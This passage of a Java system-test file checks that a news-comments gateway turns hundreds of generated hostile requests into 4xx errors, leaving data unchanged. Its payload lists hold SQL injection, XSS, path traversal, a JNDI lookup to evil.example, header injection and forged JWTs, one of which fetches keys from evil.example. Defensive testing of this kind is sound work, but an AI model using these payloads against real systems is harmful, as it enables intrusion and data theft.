package news.comments.systemtest;

import static news.comments.systemtest.Scenario.EVENTUALLY;
import static news.comments.systemtest.Scenario.awaitAllDecided;
import static news.comments.systemtest.Scenario.awaitDecision;
import static news.comments.systemtest.Scenario.commentsPath;
import static news.comments.systemtest.Scenario.createArticle;
import static news.comments.systemtest.Scenario.openStream;
import static news.comments.systemtest.Scenario.postCommentOnceArticleIsKnown;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.UUID;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import news.comments.systemtest.SharedStack.SystemUnderTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import tools.jackson.core.json.JsonWriteFeature;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * Hundreds of generated hostile requests through the gateway against every endpoint: malformed,
 * oversized, ill-formed UTF-8 and strictly-invalid bodies (keys given twice too), oversized request
 * heads (long Idempotency-Keys, huge or thousands of headers, huge addresses), SQL/JSON/header injection, XSS, path traversal, bad and
 * forged tokens, wrong methods and content types. Each gets a 4xx problem+json, none a 5xx, and
 * the data is the same afterwards. An XSS payload that is legitimate comment text is the one
 * request that is accepted, and it comes back as exactly the same JSON text.
 */
@ExtendWith(SharedStack.class)
class HostileInputSystemTest {

    // Non-ASCII is written as JSON unicode escapes, so an unpaired surrogate reaches the server as such
    // (sent raw, the UTF-8 encoder would replace it with '?' and the test would prove nothing).
    private static final JsonMapper JSON =
            JsonMapper.builder().enable(JsonWriteFeature.ESCAPE_NON_ASCII).build();

    private static final List<String> INJECTIONS = List.of(
            "' OR '1'='1",
            "'; DROP TABLE comments; --",
            "1; SELECT pg_sleep(10)--",
            "\" OR \"\"=\"",
            "admin'--",
            "1 UNION SELECT username, password FROM users",
            "\",\"status\":\"APPROVED",
            "{\"$ne\":null}",
            "}{",
            "\\u0000",
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(document.cookie)>",
            "javascript:alert(1)",
            "\"><svg onload=alert(1)>",
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "%00",
            "${jndi:ldap://evil.example/a}",
            "{{7*7}}",
            "a\r\nX-Injected: yes");

    private static final List<String> CONTROL_TEXT = List.of(
            "bell\u0007",
            "nul\u0000",
            "escape\u001b[2J",
            "del\u007f",
            "c1\u0085next",
            "csi\u009b31m",
            "half\ud800",
            "low\udc00half",
            "back\bspace",
            "form\ffeed");

    private static final List<String> MALFORMED_BODIES = List.of(
            "{",
            "}",
            "{\"author\":",
            "{\"author\":\"a\",\"text\":\"b\"",
            "not json at all",
            "<xml/>",
            "{'author':'a'}",
            "{\"author\":\"a\",,}",
            "\u0000",
            "[".repeat(5000) + "]".repeat(5000),
            "{\"a\":".repeat(2000) + "1" + "}".repeat(2000),
            "\"just a string\"",
            "12345",
            "true");

    record Hostile(String label, HttpRequest.Builder request) {

        Hostile addHeader(String name, String value) {
            request.header(name, value);
            return this;
        }
    }

    @Test
    void everyHostileRequestGetsA4xxProblemAndNothingChanges(SystemUnderTest system) throws Exception {
        Api api = system.api();
        String token = system.moderatorToken();
        String articleId = createArticle(api, token, "Harbour wall repairs begin");
        String commentId = postCommentOnceArticleIsKnown(api, articleId, "Resident", "Good news for the harbour.")
                .text("id");
        awaitDecision(api, commentId);
        Map<String, Object> before = snapshot(api, token, articleId);

        ValidlySignedTokens signed = ValidlySignedTokens.of(system, token);
        assertThat(api.get("/api/moderation/queue", signed.sign(Map.of())).status())
                .as("a token re-signed with the stack's key and unchanged claims is accepted (the control)")
                .isEqualTo(200);
        List<Hostile> hostile = generate(api.gateway(), articleId, commentId, jwks(api), signed);
        assertThat(hostile).as("generated hostile requests").hasSizeGreaterThanOrEqualTo(500);

        Map<Integer, Integer> statuses = new TreeMap<>();
        List<String> failures = new ArrayList<>();
        for (Hostile request : hostile) {
            Api.Reply reply;
            try {
                reply = api.exchange(request.request());
            } catch (RuntimeException e) {
                failures.add(request.label() + " -> no answer: " + e);
                continue;
            }
            statuses.merge(reply.status(), 1, Integer::sum);
            String problem = problemViolation(reply);
            if (problem != null) {
                failures.add(request.label() + " -> " + problem + ": "
                        + abbreviate(reply.response().body()));
            }
        }
        System.out.printf("Hostile input: %d requests, HTTP statuses %s%n", hostile.size(), statuses);

        assertThat(failures)
                .as("hostile requests without a 4xx problem+json answer")
                .isEmpty();
        assertThat(statuses.keySet()).allMatch(status -> status >= 400 && status < 500);
        await("the data to settle")
                .during(Duration.ofSeconds(2))
                .atMost(EVENTUALLY)
                .untilAsserted(() -> assertThat(snapshot(api, token, articleId)).isEqualTo(before));
    }

    @Test
    void anXssPayloadIsAcceptedAsCommentTextAndComesBackAsTheSameJsonText(SystemUnderTest system) {
        Api api = system.api();
        String token = system.moderatorToken();
        String articleId = createArticle(api, token, "Festival programme announced");
        String author = "<img src=x onerror=alert(1)>";
        String text =
                "<script>alert(\"pwned\")</script> & ' OR '1'='1 -- </textarea><svg onload=alert(1)>\n\u00e9\uD83D\uDE00";

        Api.Reply posted = postCommentOnceArticleIsKnown(api, articleId, author, text);
        assertThat(posted.status()).as("%s", posted).isEqualTo(202);
        String id = posted.text("id");
        Api.Reply decided = awaitDecision(api, id);
        if (!"APPROVED".equals(decided.text("status"))) {
            Api.Reply approve = api.post(
                    "/api/moderation/comments/" + id + "/decisions",
                    Map.of("articleId", articleId, "decision", "APPROVE", "note", "hostile-input test"),
                    token);
            assertThat(approve.status()).as("%s", approve).isEqualTo(202);
        }

        Api.Reply[] list = new Api.Reply[1];
        await("the XSS comment to be listed")
                .atMost(EVENTUALLY)
                .pollInterval(Duration.ofMillis(250))
                .until(() -> {
                    list[0] = api.get(commentsPath(articleId));
                    return list[0].body().path("comments").size() == 1;
                });
        JsonNode comment = list[0].body().path("comments").get(0);
        assertThat(comment.path("text").asString()).isEqualTo(text);
        assertThat(comment.path("author").asString()).isEqualTo(author);
        // JSON text, not markup: the raw body holds the JSON-encoded string, served as JSON that
        // browsers may not sniff, frame or run scripts from.
        assertThat(list[0].response().body()).contains(JsonMapper.shared().writeValueAsString(text));
        assertThat(list[0].contentType()).startsWith("application/json");
        assertThat(list[0].header("X-Content-Type-Options")).hasValue("nosniff");
        assertThat(list[0].header("Content-Security-Policy"))
                .hasValueSatisfying(csp ->
                        assertThat(csp).contains("frame-ancestors 'none'").doesNotContain("unsafe-inline"));
        Api.Reply single = api.get("/api/comments/" + id);
        assertThat(single.text("text")).isEqualTo(text);
    }

    @Test
    void unicodeTricksGetNeitherABannedWordNorABannedAuthorPastTheRules(SystemUnderTest system) {
        Api api = system.api();
        String token = system.moderatorToken();
        Api.Reply current = api.get("/api/moderation/rules", token);
        assertThat(current.status()).as("%s", current).isEqualTo(200);
        Map<String, Object> rules = editable(current.body());
        rules.put("bannedWords", withEntry(current.body().path("bannedWords"), "idiot"));
        rules.put("bannedAuthors", withEntry(current.body().path("bannedAuthors"), "troll"));
        Api.Reply changed = api.put("/api/moderation/rules", rules, token);
        assertThat(changed.status()).as("%s", changed).isEqualTo(200);

        String articleId = createArticle(api, token, "Unicode tricks");
        // author, text, expected status, expected reason code (null: none)
        List<String[]> probes = List.of(
                new String[] {"Reader one", "tr\u00e8s bien, die Stra\u00dfe", "APPROVED", null},
                new String[] {"Reader two", "you \u202Etoidi\u202C", "REJECTED", "BANNED_WORD"},
                new String[] {"Reader three", "\u202Bid\u2067iot\u2069\u202C", "REJECTED", "BANNED_WORD"},
                new String[] {"Reader four", "i\u200Dd\u2060i\u00ADo\u200Ct", "REJECTED", "BANNED_WORD"},
                new String[] {"Reader five", "\u0456d\u0456\u043et", "REJECTED", "BANNED_WORD"},
                new String[] {"Reader six", "i\u0336d\u0336i\u0336o\u0336t\u0336", "REJECTED", "BANNED_WORD"},
                new String[] {"\u202Ellort", "hello", "REJECTED", "BANNED_AUTHOR"},
                new String[] {"\u0422roll", "hello there", "REJECTED", "BANNED_AUTHOR"});
        await("the new rule set to apply")
                .atMost(EVENTUALLY)
                .pollInterval(Duration.ofMillis(500))
                .until(() -> {
                    String probe = postCommentOnceArticleIsKnown(
                                    api, articleId, "Rule check " + UUID.randomUUID(), "idiot")
                            .text("id");
                    return awaitDecision(api, probe)
                            .body()
                            .path("reasons")
                            .toString()
                            .contains("BANNED_WORD");
                });
        Map<String, String[]> posted = new LinkedHashMap<>();
        for (String[] probe : probes) {
            Api.Reply reply = api.post(commentsPath(articleId), Map.of("author", probe[0], "text", probe[1]), null);
            assertThat(reply.status()).as("%s: %s", probe[1], reply).isEqualTo(202);
            posted.put(reply.text("id"), probe);
        }
        Map<String, Api.Reply> decided = awaitAllDecided(api, posted.keySet(), EVENTUALLY);
        posted.forEach((id, probe) -> {
            JsonNode comment = decided.get(id).body();
            assertThat(comment.path("status").asString())
                    .as("%s by %s", probe[1], probe[0])
                    .isEqualTo(probe[2]);
            if (probe[3] != null) {
                assertThat(comment.path("reasons").toString())
                        .as("%s by %s", probe[1], probe[0])
                        .contains(probe[3]);
            }
        });
    }

    @Test
    void forgedClientHeadersDoNotTurnOneReaderIntoMany(SystemUnderTest system) {
        Api api = system.api();
        String token = system.moderatorToken();
        String articleId = createArticle(api, token, "One reader, many headers");
        String commentId = postCommentOnceArticleIsKnown(api, articleId, "Writer", "An opinion some will dislike.")
                .text("id");
        assertThat(awaitDecision(api, commentId).text("status")).isEqualTo("APPROVED");
        int threshold = api.get("/api/moderation/rules", token)
                .body()
                .path("reportThreshold")
                .asInt();
        assertThat(threshold).as("reports are switched on").isPositive();

        List<String> reportIds = new ArrayList<>();
        for (int i = 0; i < threshold + 2; i++) {
            Api.Reply reply = api.post(
                    "/api/comments/" + commentId + "/reports",
                    Map.of("reason", "spam " + i),
                    null,
                    Map.of("X-Comments-Client", "10.0.0." + i));
            assertThat(reply.status()).as("%s", reply).isEqualTo(202);
            reportIds.add(reply.text("id"));
        }
        assertThat(reportIds)
                .as("one reader's reports, whatever X-Comments-Client says")
                .containsOnly(reportIds.get(0));
        await("the comment to stay published")
                .during(Duration.ofSeconds(3))
                .atMost(Duration.ofSeconds(10))
                .untilAsserted(
                        () -> assertThat(api.get("/api/comments/" + commentId).text("status"))
                                .isEqualTo("APPROVED"));
    }

    @Test
    void oneClientGetsAtMostFiveLiveStreamsAndAClosedStreamFreesItsPlace(SystemUnderTest system) throws Exception {
        Api api = system.api();
        String articleId = createArticle(api, system.moderatorToken(), "Streams per reader");
        URI gateway = api.gateway();
        // The shared stack believes X-Forwarded-For from loopback: this reader is alone with its address.
        String reader = "198.51.100." + (1 + new java.util.Random().nextInt(250));
        String streamPath = commentsPath(articleId) + "/stream";
        int before = openStreams(system);
        List<java.net.Socket> streams = new ArrayList<>();
        try {
            for (int i = 0; i < 5; i++) {
                streams.add(openStream(gateway, streamPath, reader));
            }
            await("five streams open").atMost(EVENTUALLY).until(() -> openStreams(system) == before + 5);

            Api.Reply sixth = api.exchange(HttpRequest.newBuilder(gateway.resolve(streamPath))
                    .header("Accept", "text/event-stream")
                    .header("X-Forwarded-For", reader)
                    .GET());
            assertThat(sixth.status()).as("%s", sixth).isEqualTo(429);
            assertThat(problemViolation(sixth)).isNull();
            assertThat(sixth.header("Retry-After")).isPresent();

            streams.remove(0).close();
            await("the closed stream's place to be freed")
                    .atMost(EVENTUALLY)
                    .until(() -> openStreams(system) == before + 4);
            java.net.Socket again = openStream(gateway, streamPath, reader);
            streams.add(again);
            again.setSoTimeout(30_000);
            await("a new stream in the freed place").atMost(EVENTUALLY).until(() -> openStreams(system) == before + 5);
        } finally {
            for (java.net.Socket socket : streams) {
                socket.close();
            }
        }
        await("every stream of this reader closed").atMost(EVENTUALLY).until(() -> openStreams(system) == before);
    }

    /** The gateway's gauge of open comment streams, read from its management port. */
    private static int openStreams(SystemUnderTest system) throws Exception {
        URI metrics =
                URI.create("http://127.0.0.1:" + system.stack().ports().gatewayManagement() + "/actuator/prometheus");
        String body = java.net.http.HttpClient.newHttpClient()
                .send(HttpRequest.newBuilder(metrics).build(), java.net.http.HttpResponse.BodyHandlers.ofString())
                .body();
        return body.lines()
                .filter(line -> line.startsWith("comments_gateway_streams_open"))
                .mapToInt(line -> (int) Double.parseDouble(line.substring(line.lastIndexOf(' ') + 1)))
                .findFirst()
                .orElseThrow(() -> new AssertionError("no comments_gateway_streams_open gauge"));
    }

    private static Map<String, Object> editable(JsonNode view) {
        @SuppressWarnings("unchecked")
        Map<String, Object> map = JsonMapper.shared().convertValue(view, Map.class);
        return new LinkedHashMap<>(map);
    }

    private static List<String> withEntry(JsonNode list, String entry) {
        List<String> entries = new ArrayList<>();
        list.forEach(item -> entries.add(item.asString()));
        if (!entries.contains(entry)) {
            entries.add(entry);
        }
        return entries;
    }

    // --- the generated requests ---------------------------------------------------------------------

    private static List<Hostile> generate(
            URI gateway, String articleId, String commentId, String jwksModulus, ValidlySignedTokens signed)
            throws Exception {
        List<Hostile> all = new ArrayList<>();
        Map<String, String> writes = new LinkedHashMap<>();
        writes.put("POST " + commentsPath(articleId), null);
        writes.put("POST /api/comments/" + commentId + "/reports", null);
        writes.put("POST /api/auth/token", null);
        String randomComment = UUID.randomUUID().toString();

        // 1. Malformed bodies on every write (anonymous ones; moderator ones need a token, below).
        for (String write : writes.keySet()) {
            for (String body : MALFORMED_BODIES) {
                all.add(raw(gateway, write, body, "application/json", null, "malformed " + write));
            }
        }
        // 2. Strict bodies: control characters, wrong types, injected fields, bad UUIDs.
        for (String text : CONTROL_TEXT) {
            all.add(json(
                    gateway,
                    "POST " + commentsPath(articleId),
                    Map.of("author", "A", "text", text),
                    null,
                    "control text"));
            all.add(json(
                    gateway,
                    "POST " + commentsPath(articleId),
                    Map.of("author", text, "text", "fine"),
                    null,
                    "control author"));
            all.add(json(
                    gateway,
                    "POST /api/comments/" + commentId + "/reports",
                    Map.of("reason", text),
                    null,
                    "control reason"));
        }
        for (String injection : INJECTIONS) {
            String post = "POST " + commentsPath(articleId);
            all.add(json(
                    gateway,
                    post,
                    Map.of("author", injection, "text", injection, "parentId", injection),
                    null,
                    "injection as parentId"));
            all.add(json(
                    gateway,
                    post,
                    Map.of("author", "A", "text", injection, "status", "APPROVED"),
                    null,
                    "injected status field"));
            all.add(json(
                    gateway,
                    post,
                    Map.of("author", injection, "text", "t", "id", injection),
                    null,
                    "injected id field"));
            all.add(json(
                    gateway, post, Map.of("author", List.of(injection), "text", injection), null, "array as author"));
            all.add(json(
                    gateway, post, Map.of("author", Map.of("$gt", ""), "text", injection), null, "object as author"));
            all.add(json(
                    gateway,
                    "POST /api/comments/" + commentId + "/reports",
                    Map.of("reason", injection, "weight", 100),
                    null,
                    "injected report field"));
            all.add(json(
                    gateway,
                    "POST /api/auth/token",
                    Map.of("username", injection, "password", injection),
                    null,
                    "injection sign-in"));
            // ... in path variables and query parameters
            String encoded = encode(injection);
            all.add(raw(gateway, "GET /api/articles/" + encoded, null, null, null, "injection article id"));
            all.add(raw(
                    gateway, "GET /api/articles/" + encoded + "/comments", null, null, null, "injection article id"));
            all.add(raw(gateway, "GET /api/comments/" + encoded, null, null, null, "injection comment id"));
            all.add(raw(
                    gateway,
                    "POST /api/comments/" + encoded + "/reports",
                    "{\"reason\":\"spam\"}",
                    "application/json",
                    null,
                    "injection comment id"));
            all.add(raw(
                    gateway,
                    "POST /api/articles/" + encoded + "/comments",
                    "{\"author\":\"a\",\"text\":\"b\"}",
                    "application/json",
                    null,
                    "injection article id"));
            all.add(raw(gateway, "GET /api/articles?page=" + encoded + "&size=10", null, null, null, "injection page"));
            all.add(raw(
                    gateway,
                    "GET /api/articles/" + articleId + "/comments?size=" + encoded,
                    null,
                    null,
                    null,
                    "injection size"));
            // ... and in headers
            if (!injection.contains("\r") && !injection.contains("\n")) {
                all.add(raw(
                                gateway,
                                "POST " + commentsPath(articleId),
                                "{\"author\":\"a\"}",
                                "application/json",
                                null,
                                "injection idempotency key")
                        .addHeader("Idempotency-Key", injection));
                all.add(raw(gateway, "POST /api/articles", "{}", "application/json", null, "injection bearer")
                        .addHeader("Authorization", "Bearer " + injection));
                all.add(raw(gateway, "GET /api/moderation/queue", null, null, null, "injection basic auth")
                        .addHeader("Authorization", "Basic " + injection));
            }
        }
        // 3. Oversized bodies (the gateway refuses them whole).
        String huge = "{\"author\":\"a\",\"text\":\"" + "A".repeat(200 * 1024) + "\"}";
        String enormous = "{\"title\":\"t\",\"body\":\"" + "B".repeat(1024 * 1024) + "\"}";
        for (String write : writes.keySet()) {
            all.add(raw(gateway, write, huge, "application/json", null, "oversized " + write));
            all.add(raw(gateway, write, enormous, "application/json", null, "oversized " + write));
        }
        all.add(raw(gateway, "POST /api/articles", enormous, "application/json", null, "oversized article, no token"));
        all.add(json(
                gateway,
                "POST " + commentsPath(articleId),
                Map.of("author", "a", "text", "x".repeat(5001)),
                null,
                "comment text over its limit"));
        all.add(json(
                gateway,
                "POST " + commentsPath(articleId),
                Map.of("author", "a".repeat(81), "text", "x"),
                null,
                "author over its limit"));
        // 4. Path traversal and odd paths.
        for (String path : List.of(
                "/api/articles/../../etc/passwd",
                "/api/articles/..%2F..%2Fetc%2Fpasswd",
                "/api/articles/%2e%2e/%2e%2e/etc/passwd",
                "/api/../actuator/env",
                "/api/articles/..;/..;/actuator",
                "/api/articles/%252e%252e/x",
                "/%2e%2e/%2e%2e/etc/passwd",
                "/api/articles/x%00.json",
                "/api/articles/..%5c..%5cwindows",
                "/api//articles",
                "/actuator/env",
                "/actuator/heapdump",
                "/actuator/shutdown",
                "/api/admin",
                "/api/articles/" + articleId + "/comments/../../../../etc/passwd",
                "/api/comments/" + commentId + "/history/../../../articles",
                "/.env",
                "/WEB-INF/web.xml",
                "/api/articles/" + articleId + "/%2e%2e/close",
                "/gateway-fallback/comment-service")) {
            all.add(raw(gateway, "GET " + path, null, null, null, "traversal"));
            all.add(raw(gateway, "POST " + path, "{}", "application/json", null, "traversal"));
        }
        // 5. Bad and forged tokens on every moderator endpoint.
        List<String> tokens = forgedTokens(jwksModulus);
        List<String[]> moderatorCalls = List.of(
                new String[] {"POST", "/api/articles", "{\"title\":\"Forged\",\"body\":\"Forged\"}"},
                new String[] {"POST", "/api/articles/" + articleId + "/close", "{\"reason\":\"forged\"}"},
                new String[] {"POST", "/api/articles/" + articleId + "/reopen", "{}"},
                new String[] {"GET", "/api/moderation/queue", null},
                new String[] {"GET", "/api/moderation/rules", null},
                new String[] {"PUT", "/api/moderation/rules", "{\"bannedWords\":[]}"},
                new String[] {"GET", "/api/moderation/rules/versions", null},
                new String[] {"GET", "/api/moderation/rules/versions/1", null},
                new String[] {
                    "POST",
                    "/api/moderation/comments/" + commentId + "/decisions",
                    "{\"articleId\":\"" + articleId + "\",\"decision\":\"REMOVE\"}"
                },
                new String[] {"GET", "/api/comments/" + commentId + "/history", null});
        for (String[] call : moderatorCalls) {
            all.add(raw(gateway, call[0] + " " + call[1], call[2], "application/json", null, "no token " + call[1]));
            for (String forged : tokens) {
                all.add(raw(
                        gateway,
                        call[0] + " " + call[1],
                        call[2],
                        "application/json",
                        forged,
                        "forged token " + call[1]));
            }
        }
        // 6. Wrong methods.
        for (String path : List.of(
                "/api/articles",
                "/api/articles/" + articleId,
                commentsPath(articleId),
                "/api/comments/" + commentId,
                "/api/comments/" + commentId + "/reports")) {
            for (String method : List.of("PUT", "DELETE", "PATCH")) {
                all.add(raw(gateway, method + " " + path, "{}", "application/json", null, "wrong method"));
            }
        }
        all.add(raw(gateway, "GET /api/auth/token", null, null, null, "wrong method"));
        all.add(raw(gateway, "DELETE /api/auth/token", null, null, null, "wrong method"));
        all.add(raw(gateway, "GET /api/comments/" + commentId + "/reports", null, null, null, "wrong method"));
        // 7. Wrong content types.
        for (String type : List.of(
                "text/plain",
                "application/xml",
                "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x",
                "text/html",
                "application/javascript",
                "image/png")) {
            all.add(raw(
                    gateway, "POST " + commentsPath(articleId), "author=a&text=b", type, null, "content type " + type));
            all.add(raw(
                    gateway,
                    "POST /api/comments/" + commentId + "/reports",
                    "reason=spam",
                    type,
                    null,
                    "content type " + type));
            all.add(raw(gateway, "POST /api/auth/token", "username=a&password=b", type, null, "content type " + type));
        }
        // 8. Bad UUIDs and unknown ids.
        for (String id : List.of(
                "not-a-uuid", "123", "00000000-0000-0000-0000-00000000000g", articleId + "x", "{" + articleId + "}")) {
            all.add(raw(gateway, "GET /api/articles/" + encode(id), null, null, null, "bad uuid"));
            all.add(raw(gateway, "GET /api/comments/" + encode(id), null, null, null, "bad uuid"));
        }
        // 9. Oversized request heads: long Idempotency-Keys, one huge header, 2,000 headers, a huge address.
        for (int length : List.of(201, 1_000, 8_000, 20_000)) {
            all.add(json(
                            gateway,
                            "POST " + commentsPath(articleId),
                            Map.of("author", "a", "text", "b"),
                            null,
                            "idempotency key of " + length)
                    .addHeader("Idempotency-Key", "k".repeat(length)));
        }
        all.add(raw(gateway, "GET " + commentsPath(articleId), null, null, null, "20 KB header")
                .addHeader("X-Padding", "p".repeat(20_000)));
        Hostile manyHeaders = raw(
                gateway,
                "POST " + commentsPath(articleId),
                "{\"author\":\"a\",\"text\":\"b\"}",
                "application/json",
                null,
                "2,000 headers");
        for (int i = 0; i < 2_000; i++) {
            manyHeaders.addHeader("X-Header-" + i, "v");
        }
        all.add(manyHeaders);
        all.add(raw(gateway, "GET /api/articles/" + "a".repeat(10_000), null, null, null, "10 KB address"));
        all.add(raw(gateway, "GET /api/articles?page=0&size=" + "9".repeat(10_000), null, null, null, "10 KB query"));
        // 10. Bodies that are not well-formed UTF-8 (overlong '/', overlong NUL, stray continuation byte,
        // encoded surrogate, cut-off sequence) and bodies with a key given twice, on every write.
        List<byte[]> illFormed = List.of(
                new byte[] {(byte) 0xC0, (byte) 0xAF},
                new byte[] {(byte) 0xC0, (byte) 0x80},
                new byte[] {(byte) 0x80},
                new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
                new byte[] {(byte) 0xE2, (byte) 0x82});
        Map<String, String[]> fields = new LinkedHashMap<>();
        fields.put("POST " + commentsPath(articleId), new String[] {"{\"author\":\"a\",\"text\":\"", "\"}"});
        fields.put("POST /api/comments/" + commentId + "/reports", new String[] {"{\"reason\":\"", "\"}"});
        fields.put("POST /api/auth/token", new String[] {"{\"username\":\"moderator\",\"password\":\"", "\"}"});
        for (var write : fields.entrySet()) {
            for (byte[] bad : illFormed) {
                all.add(bytes(
                        gateway,
                        write.getKey(),
                        concat(write.getValue()[0], bad, "..etc" + write.getValue()[1]),
                        "ill-formed UTF-8 " + write.getKey()));
            }
        }
        all.add(raw(
                gateway,
                "POST " + commentsPath(articleId),
                "{\"author\":\"a\",\"text\":\"b\",\"text\":\"c\"}",
                "application/json",
                null,
                "duplicate key"));
        all.add(raw(
                gateway,
                "POST " + commentsPath(articleId),
                "{\"author\":\"a\",\"text\":\"b\",\"parentId\":null,\"parentId\":\"" + commentId + "\"}",
                "application/json",
                null,
                "duplicate key"));
        all.add(raw(
                gateway,
                "POST /api/comments/" + commentId + "/reports",
                "{\"reason\":\"a\",\"reason\":\"b\"}",
                "application/json",
                null,
                "duplicate key"));
        all.add(raw(
                gateway,
                "POST /api/auth/token",
                "{\"username\":\"moderator\",\"password\":\"x\",\"password\":\"y\"}",
                "application/json",
                null,
                "duplicate key"));
        // 11. Every method on every moderator path, and on an unlisted path, without a token: 401 (HEAD too,
        // which once answered 200 with a Content-Length that told the size of the queue).
        List<String> moderatorPaths = List.of(
                "/api/moderation/queue",
                "/api/moderation/rules",
                "/api/moderation/rules/versions",
                "/api/moderation/rules/versions/1",
                "/api/moderation/comments/" + commentId + "/decisions",
                "/api/comments/" + commentId + "/history",
                "/api/articles/" + articleId + "/close",
                "/api/articles/" + articleId + "/reopen",
                "/api/unlisted");
        for (String path : moderatorPaths) {
            for (String method : List.of("HEAD", "OPTIONS", "GET", "POST", "PUT", "PATCH", "DELETE")) {
                boolean hasBody = List.of("POST", "PUT", "PATCH").contains(method);
                all.add(raw(
                        gateway,
                        method + " " + path,
                        hasBody ? "{}" : null,
                        hasBody ? "application/json" : null,
                        null,
                        "no token, " + method));
            }
        }
        // 12. Tokens signed with the real key whose claims must still be refused.
        long now = Instant.now().getEpochSecond();
        Map<String, Map<String, Object>> badClaims = new LinkedHashMap<>();
        badClaims.put("no exp", claims("exp", null));
        badClaims.put("no iat", claims("iat", null));
        badClaims.put("expired 10 s ago", claims("exp", now - 10, "iat", now - 600));
        badClaims.put("no audience", claims("aud", null));
        badClaims.put("another audience", claims("aud", List.of("another-api")));
        badClaims.put("lives 61 minutes", claims("iat", now, "exp", now + 61 * 60));
        badClaims.put("issued 60 s in the future", claims("iat", now + 60, "exp", now + 600));
        badClaims.put("another issuer", claims("iss", "evil"));
        for (var bad : badClaims.entrySet()) {
            String forged = signed.sign(bad.getValue());
            all.add(raw(gateway, "GET /api/moderation/queue", null, null, forged, "signed token, " + bad.getKey()));
            all.add(raw(
                    gateway,
                    "PUT /api/moderation/rules",
                    "{\"bannedWords\":[]}",
                    "application/json",
                    forged,
                    "signed token, " + bad.getKey()));
            all.add(raw(
                    gateway,
                    "POST /api/articles/" + articleId + "/close",
                    "{}",
                    "application/json",
                    forged,
                    "signed token, " + bad.getKey()));
        }
        // 13. Operations endpoints are not on the public port.
        for (String path : List.of(
                "/actuator",
                "/actuator/prometheus",
                "/actuator/health",
                "/actuator/health/readiness",
                "/actuator/info",
                "/actuator/metrics",
                "/actuator/env",
                "/actuator/heapdump")) {
            all.add(raw(gateway, "GET " + path, null, null, null, "actuator"));
        }
        all.add(raw(gateway, "HEAD /actuator/prometheus", null, null, null, "actuator"));
        all.add(raw(gateway, "GET /api/articles/" + randomComment, null, null, null, "unknown article"));
        all.add(raw(gateway, "GET /api/comments/" + randomComment, null, null, null, "unknown comment"));
        all.add(json(
                gateway,
                "POST /api/articles/" + randomComment + "/comments",
                Map.of("author", "a", "text", "b"),
                null,
                "comment on unknown article"));
        return all;
    }

    /** The claims of a real moderator token with some replaced ({@code null} removes a claim). */
    private static Map<String, Object> claims(Object... nameValuePairs) {
        Map<String, Object> changes = new LinkedHashMap<>();
        for (int i = 0; i < nameValuePairs.length; i += 2) {
            changes.put((String) nameValuePairs[i], nameValuePairs[i + 1]);
        }
        return changes;
    }

    /** Tokens that must all be refused: garbage, unsigned, signed by someone else, HS256 with the public key, tampered. */
    private static List<String> forgedTokens(String jwksModulus) throws Exception {
        long now = Instant.now().getEpochSecond();
        String claims = "{\"iss\":\"comment-moderation\",\"sub\":\"mallory\",\"roles\":[\"MODERATOR\"],\"iat\":" + now
                + ",\"exp\":" + (now + 600) + "}";
        String expiredClaims = claims.replace("\"exp\":" + (now + 600), "\"exp\":" + (now - 600));
        String rs256 = b64("{\"alg\":\"RS256\",\"typ\":\"JWT\"}");
        String hs256 = b64("{\"alg\":\"HS256\",\"typ\":\"JWT\"}");
        String fakeSignature = b64(new byte[256]);
        Mac mac = Mac.getInstance("HmacSHA256");
        mac.init(new SecretKeySpec(jwksModulus.getBytes(StandardCharsets.US_ASCII), "HmacSHA256"));
        String confusedInput = hs256 + "." + b64(claims);
        String algorithmConfusion =
                confusedInput + "." + b64(mac.doFinal(confusedInput.getBytes(StandardCharsets.US_ASCII)));
        return List.of(
                "garbage",
                "a.b.c",
                "",
                "null",
                "Bearer",
                "x".repeat(3000),
                b64("{\"alg\":\"none\"}") + "." + b64(claims) + ".",
                b64("{\"alg\":\"none\",\"typ\":\"JWT\"}") + "." + b64(claims),
                b64("{\"alg\":\"NONE\"}") + "." + b64(claims) + "." + fakeSignature,
                rs256 + "." + b64(claims) + "." + fakeSignature,
                rs256 + "." + b64(expiredClaims) + "." + fakeSignature,
                algorithmConfusion,
                rs256 + "." + b64(claims.replace("comment-moderation", "evil")) + "." + fakeSignature,
                b64("{\"alg\":\"RS256\",\"jku\":\"http://evil.example/jwks.json\",\"kid\":\"1\"}") + "." + b64(claims)
                        + "." + fakeSignature,
                b64("{\"alg\":\"RS256\",\"kid\":\"../../../../dev/null\"}") + "." + b64(claims) + "." + fakeSignature,
                rs256 + "." + b64("' OR 1=1 --") + "." + fakeSignature);
    }

    private static Hostile raw(
            URI gateway, String methodAndPath, String body, String contentType, String token, String label) {
        int space = methodAndPath.indexOf(' ');
        String method = methodAndPath.substring(0, space);
        String path = methodAndPath.substring(space + 1);
        HttpRequest.Builder request = HttpRequest.newBuilder(
                        URI.create(gateway.toString().replaceAll("/$", "") + path))
                .timeout(Duration.ofSeconds(30))
                .header("Accept", "application/json, application/problem+json")
                .method(
                        method,
                        body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofString(body));
        if (contentType != null && body != null) {
            request.header("Content-Type", contentType);
        }
        if (token != null) {
            request.header("Authorization", "Bearer " + token);
        }
        return new Hostile(
                label + " [" + methodAndPath.substring(0, Math.min(120, methodAndPath.length())) + "]", request);
    }

    private static Hostile bytes(URI gateway, String methodAndPath, byte[] body, String label) {
        Hostile hostile = raw(gateway, methodAndPath, null, null, null, label);
        int space = methodAndPath.indexOf(' ');
        hostile.request()
                .method(methodAndPath.substring(0, space), HttpRequest.BodyPublishers.ofByteArray(body))
                .header("Content-Type", "application/json");
        return hostile;
    }

    private static byte[] concat(String head, byte[] middle, String tail) {
        byte[] start = head.getBytes(StandardCharsets.UTF_8);
        byte[] end = tail.getBytes(StandardCharsets.UTF_8);
